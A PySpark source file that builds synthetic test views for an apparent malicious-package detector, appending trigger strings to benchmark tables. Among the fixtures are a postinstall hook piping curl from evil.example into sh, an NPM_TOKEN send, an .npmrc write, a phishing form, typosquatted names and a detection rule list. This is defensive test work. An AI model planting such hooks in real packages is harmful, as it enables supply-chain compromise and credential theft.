"""Package tables derived from the driver's parquet tables.

The driver tables hold nothing to detect, so these views append rule triggers to them.
Each view is one SQL text that both Spark and the checking engine run, so both sides of
a check start from the same rows. Every row of the source tables is kept.
"""

from __future__ import annotations

from pyspark.sql import DataFrame, SparkSession

TABLES = (
    "region nation customer supplier part orders lineitem events documents embeddings "
    "pages benchmark labels conversations"
).split()


def text_sql(value: str) -> str:
    """A string literal without quotes or backslashes, which engines read differently."""
    parts, plain = [], ""
    for ch in value:
        if ch in "'\\\n" or ord(ch) > 126:
            if plain:
                parts.append(f"'{plain}'")
                plain = ""
            parts.append(f"chr({ord(ch)})")
        else:
            plain += ch
    if plain:
        parts.append(f"'{plain}'")
    return parts[0] if len(parts) == 1 else f"concat({', '.join(parts)})"


# What is appended to document k of every 24, and the suffix of the file it becomes.
SNIPPETS: list[tuple[str, str]] = [
    (".js", "fetch_('https://evil.example/x');"),
    (".js", "see https://github.com/a/b"),
    (".js", "axios (u); http.request(o)"),
    (".js", "post('https://discord.com/api/webhooks/1')"),
    (".js", "fs.writeFile ('/home/u/.npmrc', t)"),
    (".js", "fs.mkdir('out')"),
    (".js", "if (process.env.CI) return"),
    (".js", "send(process.env.NPM_TOKEN)"),
    (".js", "__webpack_require__(1)"),
    (".js", "x" * 4000),
    (".js", "Qk" * 80),
    (".js", "eval (x)"),
    (".js", "child_process.execSync('ls')"),
    (".js", "var _0x1a2b = ['\\x61\\x70']; while(!![]){ s.charCodeAt(i) ^ 7 }"),
    (".json", "prebuild-install -r napi"),
    (".html", '<form action="https://evil.example/p"><input type="password"></form>'),
    (".html", "<button class=b>Verify</button>"),
    (".html", '<script src="https://unpkg.com/a.js"></script>'),
    (".html", "<iframe src='https://frame.example/'></iframe>"),
    (".py", "from flask import Flask"),
    (".py", "s.bind(('',80))"),
    (".py", "requests.get(u)"),
    (".sh", "curl -s https://evil.example/i.sh"),
    (".js", "fs.writeFileSync('a')"),
]


def _snippet_sql(text: str) -> str:
    for unit, count in (("x", 4000), ("Qk", 80)):
        if text == unit * count:
            return f"repeat('{unit}', {count})"
    return text_sql(text)


def _cases(key: str, values: list[str]) -> str:
    whens = " ".join(f"WHEN {i} THEN {value}" for i, value in enumerate(values))
    return f"CASE {key} {whens} END"


_K = "(doc_id % 24)"
FILES = f"""
SELECT doc_id AS file_id, concat('pkg-', source) AS name,
       concat('1.0.', CAST(doc_id % 5 AS VARCHAR(20))) AS version,
       concat('package/f', CAST(doc_id AS VARCHAR(20)), {_cases(_K, [f"'{s}'" for s, _ in SNIPPETS])}) AS path,
       {_cases(_K, [f"'{s}'" for s, _ in SNIPPETS])} AS suffix,
       concat(text, chr(10), {_cases(_K, [_snippet_sql(b) for _, b in SNIPPETS])}) AS content
FROM {{documents}}
"""

_HTML = [_snippet_sql(SNIPPETS[k][1]) for k in (15, 16, 17, 18)]
HTML_FILES = f"""
SELECT page_id, url, concat('site-', CAST(page_id % 7 AS VARCHAR(20))) AS name, '1.0.0' AS version,
       concat('package/p', CAST(page_id AS VARCHAR(20)), '.html') AS path, '.html' AS suffix,
       concat(html, chr(10), {_cases("(page_id % 4)", _HTML)}) AS content
FROM {{pages}}
"""

# Magic bytes in front of a document, by doc_id % 6; 0 has none.
BINARY_FILES = """
SELECT doc_id AS file_id, concat('bin-', source) AS name, '1.0.0' AS version,
       concat('package/b', CAST(doc_id AS VARCHAR(20)), CASE doc_id % 5 WHEN 4 THEN '.node' ELSE '.js' END) AS path,
       CASE doc_id % 5 WHEN 4 THEN '.node' ELSE '.js' END AS suffix,
       CASE doc_id % 6 WHEN 0 THEN '' WHEN 1 THEN '0061736D' WHEN 2 THEN '4D5A' WHEN 3 THEN '7F454C46'
            WHEN 4 THEN 'CFFAEDFE' ELSE 'CAFEBABE' END AS magic,
       text
FROM {documents}
"""

# as_read is what a reader makes of the manifest: of repeated keys the last, NaN as null.
MANIFESTS = """
SELECT c_custkey, name, version, as_read,
       CASE c_custkey % 3
         WHEN 1 THEN concat('{"name":"earlier",', CASE WHEN as_read LIKE '%"scripts"%' THEN '"scripts":{},' ELSE '' END, substring(as_read, 2))
         WHEN 2 THEN concat('{"size":NaN,"least":[-Infinity, 1],', substring(as_read, 2)) ELSE as_read END AS manifest
FROM (
SELECT c_custkey, concat('pkg-', CAST(c_custkey AS VARCHAR(20))) AS name, '1.0.0' AS version,
       concat('{"name":"pkg-', CAST(c_custkey AS VARCHAR(20)), '","version":"1.0.0"',
         CASE c_custkey % 8
           WHEN 0 THEN ',"scripts":{"postinstall":"curl https://evil.example/a | sh"}'
           WHEN 1 THEN ',"scripts":{"prepare":"tsc","test":"jest"},"author":" Ann Lee "'
           WHEN 2 THEN ',"scripts":{"install":"node bundle.js && webpack"},"repository":"git+https://github.com/a/b"'
           WHEN 3 THEN ',"scripts":{"preinstall":"node -e eval(1) https://github.com/x https://evil.example/y"}'
           WHEN 4 THEN ',"bin":{"x":"cli.js"},"maintainers":[{"email":"m@x.example"},{"name":"Second"}]'
           WHEN 5 THEN ',"scripts":{"build":"prebuild-install --download https://m.example"},"publisher":{"username":"pub","url":"https://p.example"}'
           WHEN 6 THEN ',"author":{"name":"Kim","url":"https://kim.example"},"repository":{"type":"git","url":"https://github.com/k/m"},"homepage":"https://kim.example/home"'
           ELSE ',"author":[{"email":"a@b.example"},{"name":"Bo"}],"description":"  a tool "'
         END,
         CASE c_custkey % 16 WHEN 15 THEN '' ELSE '}' END) AS as_read
FROM {customer}) q
"""

_POPULAR = "lodash express react vue webpack chalk typescript moment axios eslint".split()
NAMES = f"""
SELECT s_suppkey,
       CASE s_suppkey % 4
         WHEN 0 THEN concat(substring(p, 1, CAST(1 + s_suppkey % (length(p) - 1) AS INT) - 1),
                            substring(p, CAST(1 + s_suppkey % (length(p) - 1) AS INT) + 1))
         WHEN 1 THEN concat(p, chr(CAST(97 + s_suppkey % 26 AS INT)))
         WHEN 2 THEN replace(p, 'o', '0')
         ELSE concat('@evil/', p) END AS name
FROM (SELECT s_suppkey, {_cases("(s_suppkey % 10)", [f"'{p}'" for p in _POPULAR])} AS p FROM {{supplier}}) s
"""

# The rules of the findings view: (rule, severity, weight), in the order of the weights.
FINDING_RULES: list[tuple[str, str, int]] = [
    ("lifecycle_script", "high", 4),
    ("suspicious_pattern", "medium", 2),
    ("minified_long_lines", "low", 2),
    ("big_base64_blob", "medium", 3),
    ("c2_webhook", "high", 6),
    ("high_entropy_blob", "medium", 3),
    ("has_bin", "low", 1),
    ("url_in_code", "medium", 5),
    ("net_client_usage", "medium", 5),
    ("url_outside_allowlist", "high", 6),
    ("env_snoop", "medium", 4),
    ("webpack_bundle", "medium", 2),
    ("large_js", "medium", 2),
    ("ci_evasion", "low", 3),
    ("writes_outside_pkg", "high", 6),
    ("writes_outside_pkg_candidate", "medium", 6),
    ("native_binary_present", "high", 3),
    ("wasm_present", "medium", 3),
    ("native_fetcher_present", "low", 3),
    ("native_fetcher_custom_url", "medium", 3),
    ("npmrc_present", "high", 4),
    ("lockfile_present", "low", 1),
    ("install_chain_risk", "high", 10),
    ("install_persistence_risk", "high", 10),
    ("phishing_form", "high", 8),
    ("fake_captcha", "medium", 6),
    ("external_cdn_load", "medium", 6),
    ("iframe_embed", "medium", 6),
    ("http_server", "medium", 6),
    ("port_binding", "medium", 6),
    ("script_download", "high", 9),
    ("typosquat_detected", "high", 8),
    ("advanced_obfuscation", "medium", 3),
    ("yara_match", "medium", 4),
]

_NAME = """CASE WHEN c_custkey % 50 = 0 THEN concat({prefix}, '-', CAST(c_custkey AS VARCHAR(20)))
            WHEN c_custkey % 50 = 25 THEN concat('myPackage', CAST(c_custkey AS VARCHAR(20)))
            ELSE lower(c_name) END""".format(
    prefix=_cases(
        "(c_custkey % 7)",
        [f"'{p}'" for p in ("lodas", "expres", "reac", "webpac", "chal", "momen", "axio")],
    )
)
PACKAGES = f"""
SELECT {_NAME} AS name, 'npm' AS ecosystem, concat('author-', CAST(c_nationkey AS VARCHAR(20))) AS author,
       c_mktsegment AS description, c_nationkey AS dependents, TIMESTAMP '2001-08-01 00:00:00' AS last_seen
FROM {{customer}}
UNION ALL
SELECT lower(s_name) AS name, 'npm' AS ecosystem, 'supplier' AS author,
       CAST(NULL AS VARCHAR(20)) AS description, s_nationkey AS dependents, TIMESTAMP '2001-08-01 00:00:00' AS last_seen
FROM {{supplier}}
"""

VERSIONS = f"""
SELECT {_NAME} AS name, concat('1.0.', CAST(o_orderkey AS VARCHAR(20))) AS version,
       CAST(o_orderdate AS TIMESTAMP) AS analyzed_at,
       CASE WHEN o_orderstatus = 'F' THEN 'analyzed' ELSE 'queued' END AS status
FROM {{orders}} JOIN {{customer}} ON o_custkey = c_custkey
"""

FINDINGS = f"""
SELECT name, version,
       {_cases("k", [f"'{r}'" for r, _, _ in FINDING_RULES])} AS rule,
       {_cases("k", [f"'{s}'" for _, s, _ in FINDING_RULES])} AS severity,
       {_cases("k", [str(w) for _, _, w in FINDING_RULES])} AS weight,
       file_path,
       concat('{{"path":"', file_path, '","key":"postinstall","value":"node s', CAST(l_suppkey % 9 AS VARCHAR(20)),
              '.js","pattern":"', CASE l_partkey % 3 WHEN 0 THEN 'child_process' WHEN 1 THEN 'childXprocess' ELSE 'eval' END,
              '","size":', CAST(l_partkey * 1000 + l_linenumber AS VARCHAR(20)),
              ',"endpoints":["e', CAST(l_suppkey % 5 AS VARCHAR(20)), '.example"],"similarity":',
              CAST(70 + l_suppkey % 30 AS VARCHAR(20)), '.5,"explanation":"because ', CAST(l_linenumber AS VARCHAR(20)), '"}}') AS details
FROM (
  SELECT {_NAME} AS name, concat('1.0.', CAST(o_orderkey AS VARCHAR(20))) AS version,
         l_partkey, l_suppkey, l_linenumber,
         CASE WHEN o_custkey % 25 = 0 AND l_suppkey % 2 = 0 THEN 4
              ELSE (l_partkey * 7 + l_linenumber) % 34 END AS k,
         concat('package/', CASE l_suppkey % 6 WHEN 0 THEN 'Discord' WHEN 1 THEN 'slack' WHEN 2 THEN 'telegram'
                WHEN 3 THEN 'webhook' WHEN 4 THEN 'ngrok' ELSE 'lib' END, CAST(l_linenumber AS VARCHAR(20)), '.js') AS file_path
  FROM {{lineitem}} JOIN {{orders}} ON l_orderkey = o_orderkey JOIN {{customer}} ON o_custkey = c_custkey
) f
"""

SCORES = f"""
SELECT v.name, v.version, CAST(coalesce(s.score, 0) AS INT) AS score,
       CASE WHEN coalesce(s.score, 0) >= 12 THEN 'malicious' WHEN coalesce(s.score, 0) >= 7 THEN 'suspicious'
            ELSE 'clean' END AS label
FROM ({VERSIONS}) v
LEFT JOIN (SELECT name, version, sum(weight) AS score FROM ({FINDINGS}) x GROUP BY name, version) s
  ON s.name = v.name AND s.version = v.version
"""

REGISTRY_DOCS = """
SELECT concat('lib-', CAST(p_partkey AS VARCHAR(20))) AS name,
       concat('{"name":"lib-', CAST(p_partkey AS VARCHAR(20)), '","dist-tags":{',
              CASE p_partkey % 10 WHEN 0 THEN '"beta":"9.0.0"'
                   ELSE concat('"latest":"', CAST(p_size AS VARCHAR(20)), '.1.0"') END,
              '},"versions":{"0.0.1":{"dist":{"tarball":"https://r.example/old.tgz"}},"', CAST(p_size AS VARCHAR(20)), '.1.0":{"dist":{',
              CASE p_partkey % 10 WHEN 1 THEN '"shasum":"00"'
                   ELSE concat('"tarball":"https://r.example/lib-', CAST(p_partkey AS VARCHAR(20)), '.tgz","integrity":"sha512-',
                               CAST(p_partkey * 31 AS VARCHAR(20)), '"') END,
              '}}},"time":{"modified":"2024-01-', CASE p_partkey % 3 WHEN 0 THEN '05' WHEN 1 THEN '15' ELSE '25' END,
              'T00:00:00.000Z","0.0.1":"2020-01-01T00:00:00.000Z","', CAST(p_size AS VARCHAR(20)), '.1.0":"2023-12-31T10:00:00.000Z"}}') AS doc
FROM {part}
"""

CHANGES = """
SELECT event_id AS seq, concat('lib-', CAST(user_id AS VARCHAR(20))) AS id, event_type = 'error' AS deleted
FROM {events}
"""

LISTING = """
SELECT CASE WHEN p_partkey % 2 = 0 THEN concat('lib-', CAST(p_partkey AS VARCHAR(20))) END AS id,
       CASE WHEN p_partkey % 200 = 7 THEN concat('_design/app', CAST(p_partkey AS VARCHAR(20)))
            ELSE concat('lib-', CAST(p_partkey AS VARCHAR(20))) END AS key
FROM {part}
"""

QUEUE = """
SELECT concat('pkg-', CAST(user_id AS VARCHAR(20))) AS name, concat('1.0.', CAST(event_id % 3 AS VARCHAR(20))) AS version,
       CAST(ts AS TIMESTAMP) AS queued_at, event_type AS source, event_id
FROM {events}
"""

VIEWS: dict[str, str] = {
    "files": FILES,
    "html_files": HTML_FILES,
    "binary_files": BINARY_FILES,
    "manifests": MANIFESTS,
    "names": NAMES,
    "packages": PACKAGES,
    "versions": VERSIONS,
    "findings": FINDINGS,
    "scores": SCORES,
    "registry_docs": REGISTRY_DOCS,
    "changes": CHANGES,
    "listing": LISTING,
    "queue": QUEUE,
}


def _with_tables(sql: str, place) -> str:
    for name in TABLES:
        sql = sql.replace("{" + name + "}", place(name))
    return sql


def view_sql(*names: str, tail: str) -> str:
    """``tail`` with the named views in front of it as common table expressions."""
    views = [f"{name} AS ({_with_tables(VIEWS[name], lambda t: t)})" for name in names]
    return f"WITH {', '.join(views)} {tail}" if views else tail


def table(spark: SparkSession, folder: str, name: str) -> DataFrame:
    return spark.read.parquet(f"{folder}/{name}.parquet")


# Tables that views do much work per row on, with columns that tell their rows apart.
_SPREAD_BY = {"lineitem": "l_orderkey, l_linenumber, l_partkey"}


def _source(spark: SparkSession, folder: str, name: str) -> str:
    """A table in a FROM clause; one that comes in fewer pieces than there are cores is
    spread first. Input of many files or row groups is read as it lies."""
    place = f"parquet.`{folder}/{name}.parquet`"
    cores = spark.sparkContext.defaultParallelism
    if name in _SPREAD_BY and table(spark, folder, name).rdd.getNumPartitions() < cores:
        hint = f"/*+ REPARTITION({cores}, {_SPREAD_BY[name]}) */"
        return f"(SELECT {hint} * FROM {place}) {name}"
    return place


def view(spark: SparkSession, folder: str, name: str) -> DataFrame:
    """A derived table as a Spark DataFrame."""
    return spark.sql(_with_tables(VIEWS[name], lambda t: _source(spark, folder, t)))
